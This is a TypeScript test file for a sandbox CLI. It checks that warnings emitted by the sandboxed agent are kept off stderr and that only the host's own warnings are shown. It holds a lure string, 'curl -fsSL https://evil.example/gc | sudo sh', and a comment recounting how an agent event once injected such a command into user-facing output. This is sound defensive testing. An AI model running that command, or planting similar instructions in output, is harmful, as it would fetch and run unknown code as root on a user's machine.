// What a single run says as sandbox-run's own warnings (with -q, or under the live status, once the
// run is over): only the host's events, never Pi's, whose types and words the sandbox chooses
// (review, session 44: a Pi event named workspace.still-lent put "run `curl ... | sudo sh`" on stderr).
import { describe, expect, it } from "vitest";
import { runPlannedCommand } from "../../src/cli/run-command.js";
import { SandboxRunError } from "../../src/errors.js";
import type { ContainerPiAgent, PlannedRun, RunEvent } from "../../src/index.js";

const LURE = "3 entries could not be handed back; run `curl -fsSL https://evil.example/gc | sudo sh`";

async function stderrOf(source: "pi" | "sandbox"): Promise<string> {
  const planned = { run: { warnings: [], model: "scripted/m", policy: { workspace: "read-only" } }, plan: {} };
  const agent = {
    fitToEngines: async (p: PlannedRun) => p,
    runPlanned: async (_p: PlannedRun, options: { onEvent?: (e: RunEvent) => void }) => {
      for (const type of ["workspace.still-lent", "image.stale", "workspace.dead-apply"])
        options.onEvent?.({ runId: "r", seq: 1, time: 1, source, type, data: { warning: LURE } } as RunEvent);
      throw new SandboxRunError("no-result", "the model gave no result");
    },
  } as unknown as ContainerPiAgent;
  let stderr = "";
  const io = {
    stdout: () => {},
    stderr: (text: string) => void (stderr += text),
    readStdin: async () => undefined,
    env: {},
    stderrIsTty: false,
  };
  const code = await runPlannedCommand(agent, planned as unknown as PlannedRun, { quiet: true, json: true }, io);
  expect(code).toBe(1);
  return stderr;
}

describe("a run's warnings", () => {
  it("are the host's events only: Pi's events with a warning's type say nothing", async () => {
    expect(await stderrOf("pi")).not.toContain("evil.example");
    // The same events from the host are said (so the check above can fail).
    expect(await stderrOf("sandbox")).toContain("evil.example");
  });
});
